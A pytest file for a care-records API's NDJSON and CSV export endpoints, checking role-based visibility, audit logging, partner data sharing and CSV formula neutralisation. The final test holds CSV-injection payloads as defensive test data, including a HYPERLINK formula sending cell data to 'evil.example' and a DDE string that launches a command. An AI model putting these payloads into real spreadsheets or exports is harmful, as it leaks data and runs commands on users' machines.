"""Streaming exports: what the caller may see, in NDJSON or CSV, audited per client."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import httpx
import openpyxl
import pytest
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncSession

from api.db.models import AuditEvent
from api.services import exports
from tests.scenario import build_scenario, make_client
from tests.world import World


async def _audit(db: AsyncSession, actor: str, world: World, after: int = 0) -> list[AuditEvent]:
    return list((await db.scalars(select(AuditEvent).where(AuditEvent.actor_id == world.users[actor],
                                                           AuditEvent.seq > after)
                                  .order_by(AuditEvent.seq))).all())


async def test_ndjson_export_streams_visible_clients_and_audits_each(
        client: httpx.AsyncClient, db: AsyncSession, world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    scenario = await build_scenario(db, world)
    # Three more clients on the caseworker's team, so three batches of two rows are needed.
    for i in range(3):
        extra = make_client("karasuyama", f"追加 {i}", f"ツイカ {i}")
        db.add(extra)
        await db.flush()
        db.add(scenario.member_in.__class__(client_id=extra.id, user_id=world.users["caseworker"],
                                            team_role="caseworker", from_date=scenario.member_in.from_date))
    await db.flush()
    monkeypatch.setattr(exports, "BATCH_SIZE", 2)
    before = await db.scalar(select(func.coalesce(func.max(AuditEvent.seq), 0)))
    response = await client.get("/v1/exports/clients", headers=world.auth("caseworker"))
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/x-ndjson")
    lines = [json.loads(line) for line in response.text.splitlines()]
    assert len(lines) == 4
    assert scenario.client_in.id.hex in {line["id"].replace("-", "") for line in lines}
    assert scenario.client_out.id.hex not in {line["id"].replace("-", "") for line in lines}
    assert lines[0]["diagnoses"] == ["F20"]
    events = await _audit(db, "caseworker", world, before or 0)
    assert (events[0].action, events[0].subject) == ("export", "start")
    per_client = [e for e in events if e.subject == "export"]
    assert len(per_client) == 4 and len({e.client_id for e in per_client}) == 4  # noqa: PT018
    assert (events[-1].action, events[-1].subject, events[-1].detail) == (
        "export", "complete", {"rows": 4, "format": "ndjson"})


async def test_csv_export_with_bom_for_excel_and_updated_since(
        client: httpx.AsyncClient, db: AsyncSession, world: World) -> None:
    scenario = await build_scenario(db, world)
    response = await client.get("/v1/exports/clients", headers=world.auth("caseworker"),
                                params={"format": "csv", "bom": "true"})
    assert response.status_code == 200
    assert response.content.startswith("\ufeff".encode())
    text = response.content.decode("utf-8-sig")
    header, row = text.splitlines()[:2]
    assert header.startswith("id,name,kana,date_of_birth")
    assert "山田 花子" in row
    later = (scenario.client_in.updated_at + timedelta(seconds=1)).isoformat()
    none = await client.get("/v1/exports/clients", headers=world.auth("caseworker"),
                            params={"format": "csv", "updated_since": later})
    assert none.text.splitlines() == [header]
    naive = await client.get("/v1/exports/clients", headers=world.auth("caseworker"),
                             params={"updated_since": "2010-01-01T00:00:00"})
    assert naive.status_code == 422


async def test_export_shapes_rows_like_the_api(client: httpx.AsyncClient, db: AsyncSession, world: World) -> None:
    scenario = await build_scenario(db, world)
    peer = (await client.get("/v1/exports/clients", headers=world.auth("peer_supporter"))).json()
    assert "diagnoses" not in peer and peer["id"] == str(scenario.client_in.id)  # noqa: PT018
    episodes = (await client.get("/v1/exports/episodes", headers=world.auth("coordinator"))).text.splitlines()
    assert [json.loads(e)["programme_code"] for e in episodes] == [scenario.programme.code]
    activities = (await client.get("/v1/exports/activities", headers=world.auth("peer_supporter"))).text
    assert activities == ""  # a peer supporter sees only their own activity records
    mine = (await client.get("/v1/exports/activities", headers=world.auth("mental_care_worker"))).text.splitlines()
    assert [json.loads(a)["id"] for a in mine] == [str(scenario.activity_in.id)]


async def test_who_may_export(client: httpx.AsyncClient, db: AsyncSession, world: World) -> None:
    await build_scenario(db, world)
    for name in ("partner", "hospital-system", "analyst", "secretariat", "admin", "auditor"):
        assert (await client.get("/v1/exports/clients", headers=world.auth(name))).status_code == 403, name
    assert (await client.get("/v1/exports/nothing-here", headers=world.auth("caseworker"))).status_code == 404
    assert (await client.get("/v1/exports/clients")).status_code == 401




async def test_partner_export_of_referrals_shares_only_snapshots_and_records_the_provision(
        client: httpx.AsyncClient, db: AsyncSession, world: World) -> None:
    from api.db.models import ThirdPartyProvision

    s = await build_scenario(db, world)
    before = await db.scalar(select(func.count()).select_from(ThirdPartyProvision)
                             .where(ThirdPartyProvision.referral_id == s.referral_in.id))
    response = await client.get("/v1/exports/referrals", headers=world.auth("hospital-system"))
    assert response.status_code == 200, response.text
    rows = [json.loads(line) for line in response.text.splitlines()]
    assert [r["id"] for r in rows] == [str(s.referral_in.id)]  # addressed to the hospital; not the other one
    assert rows[0]["shared_snapshot"] == {"name": "山田 花子"}
    assert "client_id" not in rows[0]
    assert "sensitive case note" not in response.text
    provisions = (await db.scalars(select(ThirdPartyProvision).where(
        ThirdPartyProvision.referral_id == s.referral_in.id))).all()
    assert len(provisions) == (before or 0) + 1
    assert provisions[-1].recipient_agency_id == world.agencies["hospital"]
    assert provisions[-1].data_items == ["name"]


async def test_staff_export_of_referrals_names_the_client_and_meetings_export_for_the_secretariat(
        client: httpx.AsyncClient, db: AsyncSession, world: World) -> None:
    s = await build_scenario(db, world)
    staff = (await client.get("/v1/exports/referrals", headers=world.auth("caseworker"))).text.splitlines()
    assert [json.loads(line)["client_id"] for line in staff] == [str(s.client_in.id)]
    assert (await client.get("/v1/exports/referrals", headers=world.auth("analyst"))).status_code == 403
    meetings = await client.get("/v1/exports/meetings", params={"format": "csv"}, headers=world.auth("secretariat"))
    assert meetings.status_code == 200
    assert meetings.text.splitlines()[0].startswith("id,")


FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"]


async def test_csv_cells_that_look_like_formulas_come_back_as_text(client: httpx.AsyncClient, world: World) -> None:
    """Issue 14, finding 4: these names were exported verbatim, and ward staff open exports in Excel.
    Read back as a spreadsheet would: split by a CSV reader, each cell put into an XLSX worksheet
    (openpyxl, like Excel, makes a cell that begins with `=` a formula), saved and loaded again."""
    auth = world.auth("caseworker")
    for i, name in enumerate(FORMULA_NAMES):
        made = await client.post("/v1/clients", headers=auth, json={
            "name": name, "kana": "テスト " + "アイウエ"[i], "date_of_birth": "1970-01-01", "sex": "female",
            "branch_code": "karasuyama", "residence_type": "apartment", "confirm_not_duplicate": True,
            "notes": "=1+1"})
        assert made.status_code == 201, made.text
    response = await client.get("/v1/exports/clients", headers=auth, params={"format": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text)))
    header, body = rows[0], rows[1:]
    names = [row[header.index("name")] for row in body]
    assert sorted(names) == sorted("'" + n for n in FORMULA_NAMES)
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    saved = io.BytesIO()
    book.save(saved)
    reread = openpyxl.load_workbook(io.BytesIO(saved.getvalue())).active
    assert reread is not None
    cells = [cell for row in reread.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == [], "a cell would run as a formula"
    assert {str(c.value) for c in cells} >= {"'" + n for n in FORMULA_NAMES}
